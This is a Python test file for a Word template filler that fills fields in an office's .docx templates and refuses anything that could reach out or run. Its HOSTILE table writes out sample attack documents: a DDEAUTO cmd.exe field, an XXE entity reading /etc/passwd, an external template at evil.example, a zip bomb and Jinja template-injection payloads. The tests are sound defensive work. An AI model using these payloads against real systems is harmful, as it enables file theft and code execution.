"""An office's own Word template: its fields found with their places, filled as text, everything that reaches out refused."""

import io
import subprocess
import sys
import zipfile

import pytest
from docx import Document

from core import docx_template
from core.docx_template import Vocabulary, fill_in, look_at
from core.limited import ROOT
from core.refusals import Refusal
from core.tests.templates import cut_in_runs, in_body, rewritten, template, text_of

ALLOWED = Vocabulary(("标题", "抄送", "发文字号"), (r"问题\d+数量",), ("正文",), {"附件": ("账号名称", "平台")})
NOTHING = {"values": {}, "blocks": {}, "rows": {}}


def filled(data, **values):
    return fill_in(data, ALLOWED, {**NOTHING, "values": values})


def refused(data, name="a.docx"):
    with pytest.raises(Refusal) as refusal:
        look_at(data, name, ALLOWED)
    return refusal.value


def test_fields_are_filled_wherever_word_cut_them_in_text_heads_feet_and_cells():
    def act(document):
        cut_in_runs("前{", "{标", "题}}后", "{{发文字号}}")(document)
        document.sections[0].header.paragraphs[0].text = "{{标题}}"
        document.add_table(1, 1).cell(0, 0).text = "{{ 标题 }}"

    made = filled(template("{{问题12数量}}个", act=act), 标题="通报", 发文字号="〔2026〕1号", 问题12数量="3")
    assert text_of(made).splitlines() == ["3个", "前通报后〔2026〕1号", "通报"]
    assert Document(io.BytesIO(made)).sections[0].header.paragraphs[0].text == "通报"


def test_the_same_content_gives_the_same_bytes():
    data = template("{{标题}}")
    assert filled(data, 标题="通报") == filled(data, 标题="通报")


def test_every_unknown_field_is_told_with_its_place():
    def act(document):
        document.add_table(2, 1).cell(1, 0).text = "{{附件.电话}}"
        document.sections[0].footer.paragraphs[0].text = "{{密码}}"

    problems = refused(template("好", "{{秘密}}和{{标题}}", act=act)).details["problems"]
    assert [(place, words.split("”")[0]) for place, words in problems] == [
        ("正文第 2 段", "没有“秘密"),
        ("正文第 1 个表格第 2 行", "没有“附件.电话"),
        ("页脚", "没有“密码"),
    ]


def test_names_used_come_back_with_their_places():
    assert look_at(template("", "{{标题}}", "{{抄送?}}"), "a.docx", ALLOWED).fields == [
        ("标题", "正文第 2 段"),
        ("抄送", "正文第 3 段"),
    ]


def test_a_value_is_text_and_is_never_read_again():
    value = "{{抄送}} <w:br/> & {% x %}\n第二行"
    made = filled(template("{{标题}}", "{{抄送}}"), 标题=value, 抄送="乙")
    assert text_of(made).splitlines() == ["{{抄送}} <w:br/> & {% x %}第二行", "乙"]


def test_a_field_without_data_is_told_unless_its_paragraph_may_go():
    data = template("甲", "抄送：{{抄送}}")
    with pytest.raises(Refusal) as refusal:
        filled(data, 标题="通报", 抄送=None)
    assert refusal.value.details["problems"][0][0] == "正文第 2 段"
    assert text_of(filled(template("甲", "抄送：{{抄送?}}", "乙"), 抄送=None)).splitlines() == ["甲", "乙"]


def test_a_table_row_is_repeated_and_goes_when_there_is_none():
    def act(document):
        table = document.add_table(2, 2)
        for place, (head, field) in enumerate((("账号", "{{附件.账号名称}}"), ("平台", "{{附件.平台}}（{{标题}}）"))):
            table.cell(0, place).text, table.cell(1, place).text = head, field

    rows = [{"账号名称": "甲号", "平台": "微信"}, {"账号名称": "{{标题}}", "平台": "微博"}]
    content = {**NOTHING, "values": {"标题": "通报"}}
    cells = text_of(fill_in(template(act=act), ALLOWED, {**content, "rows": {"附件": rows}})).splitlines()
    assert cells == ["账号", "平台", "甲号", "微信（通报）", "{{标题}}", "微博（通报）"]
    assert text_of(fill_in(template(act=act), ALLOWED, {**content, "rows": {"附件": []}})).splitlines() == [
        "账号",
        "平台",
    ]


def test_a_block_becomes_paragraphs_and_tables_in_the_look_of_its_own():
    def act(document):
        document.add_paragraph().add_run("{{正文}}").font.name = "Kai"

    parts = [
        {"kind": "heading", "text": "一、情况"},
        {"kind": "para", "lead": "（一）", "text": "甲"},
        {"kind": "table", "headers": ["单位", "账号"], "rows": [["甲局", "一"], [None, "二"]]},
    ]
    made = fill_in(template(act=act), ALLOWED, {**NOTHING, "blocks": {"正文": parts}})
    document = Document(io.BytesIO(made))
    assert [each.text for each in document.paragraphs] == ["一、情况", "（一）甲"]
    assert {run.font.name for each in document.paragraphs for run in each.runs} == {"Kai"}
    table = document.tables[0]
    assert table.cell(1, 0)._tc is table.cell(2, 0)._tc  # one cell over two rows
    assert [each.text for each in table.columns[1].cells] == ["账号", "一", "二"]


def test_paragraphs_of_a_block_may_part_at_the_foot_of_a_page():
    def act(document):
        document.add_paragraph("{{正文}}").paragraph_format.keep_with_next = True

    parts = [{"kind": kind, "text": kind} for kind in ("heading", "para", "para")]
    made = Document(io.BytesIO(fill_in(template(act=act), ALLOWED, {**NOTHING, "blocks": {"正文": parts}})))
    assert [each.paragraph_format.keep_with_next for each in made.paragraphs] == [True, None, None]


RELATION = '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'


def related(kind, target, *, external=True, of="word/_rels/document.xml.rels"):
    line = RELATION.format(kind, target, ' TargetMode="External"' if external else "").encode()
    return rewritten(template("甲"), lambda name, body: body.replace(b"</Rel", line + b"</Rel") if name == of else body)


def changed(old, new, member="word/document.xml"):
    return rewritten(template("甲"), lambda name, body: body.replace(old, new) if name == member else body)


def field(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return template(act=in_body(mark.format("begin") + runs + mark.format("end")))


DOCTYPE = b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document '
HOSTILE = {
    "macros": (lambda: rewritten(template("甲"), lambda _, body: body, also={"word/vbaProject.bin": b"x"}), "macros"),
    "external template": (lambda: related("attachedTemplate", "http://evil.example/a.dotm"), "external"),
    "external picture": (lambda: related("image", "http://127.0.0.1/x.png"), "external"),
    "a share as an inner target": (lambda: related("image", r"\\evil\x.png", external=False), "external"),
    "embedded file": (lambda: related("aFChunk", "a.html", external=False), "embedded"),
    "embedded object": (
        lambda: rewritten(template("甲"), lambda _, body: body, also={"word/embeddings/o.bin": b"x"}),
        "embedded",
    ),
    "altChunk": (lambda: template(act=in_body('<w:altChunk r:id="rX"/>')), "embedded"),
    "DDE": (lambda: field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "field_code"),
    "DDE cut up": (lambda: field("D", "DE", "AUTO cmd"), "field_code"),
    "INCLUDETEXT": (lambda: template(act=in_body('<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/>')), "field_code"),
    "field without an end": (
        lambda: template(act=in_body('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>')),
        "field_code",
    ),
    "XXE": (lambda: changed(b"<w:document ", DOCTYPE), "declaration"),
    "XXE in the settings": (
        lambda: changed(b"<w:settings ", DOCTYPE.replace(b"w:document ", b"w:settings "), "word/settings.xml"),
        "declaration",
    ),
    "UTF-16 to hide it": (
        lambda: rewritten(
            template("甲"),
            lambda name, body: body.decode().replace("UTF-8", "UTF-16").encode("utf-16") if "document" in name else body,
        ),
        "damaged",
    ),
    "zip bomb": (lambda: rewritten(template("甲"), lambda _, body: body, also={"word/big.xml": b" " * 90_000_000}), "too_heavy"),
    "mail merge": (
        lambda: changed(b"<w:zoom", b"<w:mailMerge/><w:zoom", "word/settings.xml"),
        "embedded",
    ),
    "not Word": (lambda: b"PK\x03\x04nonsense", "damaged"),
    "text": (lambda: b"{{7*7}}", "damaged"),
    "Jinja": (lambda: template("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "bad_template"),
    "Jinja loop": (lambda: template("{% for x in range(999999999999) %}{{标题}}{% endfor %}"), "bad_template"),
    "half a field": (lambda: template("{{标题"), "bad_template"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_reach_out_or_run_is_refused_with_words(name, tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    make, code = HOSTILE[name]
    refusal = refused(make())
    assert refusal.code == code
    assert len(refusal.message) > 8
    assert list(tmp_path.iterdir()) == []


def test_a_macro_document_and_a_word_template_are_refused_by_what_they_are():
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert refused(changed(plain, macro, "[Content_Types].xml")).code == "not_word"
    assert refused(template("甲"), "a.docm").code == "macros"


def test_page_numbers_are_no_danger():
    assert look_at(field(" PAGE "), "a.docx", ALLOWED).fields == []


def test_a_template_that_multiplies_beyond_the_limits_is_stopped():
    def act(document):
        document.add_table(60, 6)
        for row in document.tables[0].rows:
            for cell in row.cells:
                cell.text = "{{附件.账号名称}}"

    rows = [{"账号名称": "号" * 400} for _ in range(20_000)]
    with pytest.raises(Refusal) as refusal:
        fill_in(template(act=act), ALLOWED, {**NOTHING, "rows": {"附件": rows}})
    assert refusal.value.code == "too_heavy"


def test_who_takes_too_long_is_stopped(monkeypatch):
    monkeypatch.setattr("core.docx_template.process.SECONDS", 0.01)
    assert refused(template("甲")).code == "too_heavy"


SHUT = """
import socket, os, sys
from core.limited import limit_self, shut_in
limit_self(memory=384 << 20, cpu_seconds=5, output=1 << 20)
shut_in()
for act in (lambda: socket.create_connection(("127.0.0.1", 9)), lambda: open("/etc/passwd"), lambda: open("/tmp/x-shut", "w")):
    try:
        act()
    except OSError as error:
        print(error.errno)
"""


def test_the_process_that_parses_can_open_no_socket_and_no_file():
    done = subprocess.run([sys.executable, "-c", SHUT], cwd=ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["24", "24", "24"]  # too many open files: not one more


def test_nothing_but_the_limited_process_reads_a_template():
    for path in (ROOT / "core/docx_template").glob("*.py"):
        if path.stem in ("__init__", "process"):
            source = path.read_text()
            assert "etree" not in source and "zipfile" not in source
    assert docx_template.MOST == 8 * 1024 * 1024


def test_what_is_not_markup_passes_unchanged():
    data = rewritten(template("{{标题}}"), lambda _, body: body, also={"word/media/a.png": b"\x89PNG\r\n\x1a\n{{x}}"})
    with zipfile.ZipFile(io.BytesIO(filled(data, 标题="通报"))) as made:
        assert made.read("word/media/a.png") == b"\x89PNG\r\n\x1a\n{{x}}"
